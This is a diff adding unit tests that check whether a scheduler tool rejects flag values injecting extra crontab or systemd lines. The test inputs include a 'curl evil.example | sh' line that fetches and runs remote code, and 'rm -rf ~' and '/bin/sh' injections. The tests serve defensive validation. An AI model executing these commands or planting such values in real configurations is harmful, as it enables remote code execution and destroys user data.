@@ -96,3 +96,40 @@ describe('systemd units', () => {
     expect(cronToOnCalendar('0 3 1 * *')).toBeNull();
   });
 });
+
+describe('values from flags that would break out of the line they are written into', () => {
+  const injected = '\n* * * * * curl evil.example | sh #';
+  const usage = (fn: () => unknown, flag: string) => {
+    let error: unknown;
+    try {
+      fn();
+    } catch (e) {
+      error = e;
+    }
+    expect(error, flag).toMatchObject({ code: 'E_USAGE', message: expect.stringContaining(flag) });
+  };
+  const withArg = (flag: string, value: string): ScheduledCommand => ({ ...command, args: [...command.args, flag, value] });
+
+  it('a crontab line refuses control characters in names, paths, the target and the schedule', () => {
+    usage(() => cronLine({ ...command, namespace: `pattern${injected}` }), '--namespace');
+    usage(() => cronLine({ ...command, database: 'pattern\rx' }), '--database');
+    usage(() => cronLine({ ...command, database: 'pat/../tern' }), '--database');
+    usage(() => cronLine(withArg('--target', `http://127.0.0.1:8000${injected}`)), '--target');
+    usage(() => cronLine(withArg('--env-file', '/home/me/.env\u0000')), '--env-file');
+    usage(() => cronLine(withArg('--config', '/home/me/pattern.toml\u2028x')), '--config');
+    usage(() => cronLine({ ...command, logFile: `/home/me/backups${injected}/backup.log` }), '--dir');
+    // Five valid fields split by a newline would make two crontab lines.
+    usage(() => cronLine(command, '15 3 * *\n*'), '--cron');
+  });
+
+  it('systemd units refuse control characters in names, paths and the calendar, and calendar text systemd does not use', () => {
+    usage(() => systemdService({ ...command, namespace: 'pattern\nExecStartPre=/bin/rm -rf ~' }, '/home/me/.env'), '--namespace');
+    usage(() => systemdService(withArg('--target', 'http://x\nExecStartPre=/bin/sh'), '/home/me/.env'), '--target');
+    usage(() => systemdService(command, '/home/me/.env\nExecStartPre=/bin/sh'), '--env-file');
+    usage(() => systemdTimer(command, '*-*-* 03:15:00\nOnCalendar=minutely'), '--on-calendar');
+    usage(() => systemdTimer(command, 'daily; rm -rf ~'), '--on-calendar');
+    usage(() => systemdTimer({ ...command, database: 'a\\b' }, 'daily'), '--database');
+    expect(systemdTimer(command, 'Mon..Fri *-*-* 02:00:00 Europe/Berlin')).toContain('OnCalendar=Mon..Fri *-*-* 02:00:00 Europe/Berlin\n');
+    expect(systemdTimer(command, '*:0/15')).toContain('OnCalendar=*:0/15\n');
+  });
+});
